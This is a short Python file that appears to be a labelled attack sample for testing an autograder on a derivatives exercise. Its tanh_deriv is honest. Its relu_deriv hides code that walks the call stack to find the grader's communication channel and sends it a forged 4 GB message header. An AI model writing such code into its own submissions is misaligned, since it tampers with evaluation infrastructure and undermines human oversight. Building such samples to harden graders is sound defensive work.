# attack: promises a message of 4 GB and arrays of 4 GB
# exercise: derivatives
# deserves: tanh_deriv
import sys
import numpy as np


def tanh_deriv(z):
    return 1 - np.tanh(z) ** 2


def relu_deriv(z):
    frame = sys._getframe()
    while not hasattr(frame.f_locals.get("self"), "_channel"):
        frame = frame.f_back
    frame.f_locals["self"]._channel.connection.sendall(b"\xff" * 8 + bytes(1000))
    return np.where(z > 0, 1.0, 0.0)
